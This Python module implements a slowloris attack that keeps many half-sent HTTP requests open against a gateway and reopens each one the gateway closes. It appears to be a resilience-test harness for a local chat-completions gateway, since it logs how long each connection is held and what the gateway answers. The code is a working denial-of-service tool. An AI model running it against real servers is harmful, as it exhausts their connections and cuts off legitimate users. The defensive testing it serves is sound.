"""Half-open HTTP connections (slowloris): `count` held at once from `source`, each sending part
of a request and then nothing. Half stop inside the headers, half after whole headers and part of
a body. Each connection the gateway ends (EOF or reset, after an answer or not) is recorded and
replaced, so the gateway faces `count` stalled connections for the whole attack.

Per connection: seconds from its last byte sent to the gateway closing it (None: still open when
the attack stopped, its age then), and the status line the gateway answered with, if any.
"""

import asyncio
import time

PARTIAL_HEADERS = (
    b"POST /v1/chat/completions HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
)
PARTIAL_BODY = PARTIAL_HEADERS + b'Content-Length: 4096\r\n\r\n{"model":"m","messages":[{"role":'
OPEN_CONCURRENCY = 64  # connections being opened at once (the listen backlog is finite)
READ_BYTES = 65536
REOPEN_PAUSE_S = 1.0  # after a connection the gateway ended within this: no hot loop of refusals


class Stalled:
    """One stalled connection's story."""

    def __init__(self, kind: str):
        self.kind = kind
        self.stalled_at = 0.0  # monotonic: its last byte sent
        self.closed_after_s: float | None = None
        self.how = ""  # eof, reset, connect failed: <error>, or open (the attack ended first)
        self.answer = ""  # the status line the gateway sent, if any

    def to_dict(self, now: float) -> dict:
        age = self.closed_after_s if self.closed_after_s is not None else now - self.stalled_at
        return {
            "kind": self.kind,
            "how": self.how,
            "answer": self.answer,
            "closed_after_s": self.closed_after_s,
            "held_s": age if self.stalled_at else 0.0,
        }


async def _hold(host: str, port: int, source: str, record: Stalled, gate, timeout: float) -> None:
    try:
        async with gate:
            reader, writer = await asyncio.wait_for(
                asyncio.open_connection(host, port, local_addr=(source, 0)), timeout
            )
    except (OSError, asyncio.TimeoutError) as err:
        record.how = f"connect failed: {type(err).__name__}"
        return
    try:
        writer.write(PARTIAL_HEADERS if record.kind == "headers" else PARTIAL_BODY)
        await writer.drain()
        record.stalled_at = time.monotonic()
        await _until_closed(reader, record)
    except ConnectionError:
        record.how = "reset"
    finally:
        if record.how:
            record.closed_after_s = time.monotonic() - record.stalled_at if record.stalled_at else 0
        writer.close()


async def _until_closed(reader: asyncio.StreamReader, record: Stalled) -> None:
    while data := await reader.read(READ_BYTES):
        if not record.answer and data.startswith(b"HTTP/"):
            record.answer = data.split(b"\r\n", 1)[0].decode(errors="replace")
    record.how = "eof"


async def _slot(host, port, source, index, gate, records, stop, timeout) -> None:
    """One of `count` slots: a stalled connection, replaced whenever the gateway ends it."""
    kind = "headers" if index % 2 == 0 else "body"
    while not stop.is_set():
        record = Stalled(kind)
        records.append(record)
        hold = asyncio.create_task(_hold(host, port, source, record, gate, timeout))
        waiting = asyncio.create_task(stop.wait())
        await asyncio.wait({hold, waiting}, return_when=asyncio.FIRST_COMPLETED)
        if not hold.done():
            hold.cancel()
            await asyncio.gather(hold, return_exceptions=True)
            record.how = record.how or "open"
            record.closed_after_s = None
        waiting.cancel()
        if not record.stalled_at or (record.closed_after_s or 0) < REOPEN_PAUSE_S:
            await asyncio.sleep(0 if stop.is_set() else REOPEN_PAUSE_S)


async def half_open(config: dict, stop: asyncio.Event) -> dict:
    host, port = config["host"], config["port"]
    records: list[Stalled] = []
    gate = asyncio.Semaphore(OPEN_CONCURRENCY)
    slots = [
        _slot(host, port, config["source"], i, gate, records, stop, config["connect_timeout_s"])
        for i in range(config["count"])
    ]
    await asyncio.gather(*slots)
    now = time.monotonic()
    return {"connections": [r.to_dict(now) for r in records]}
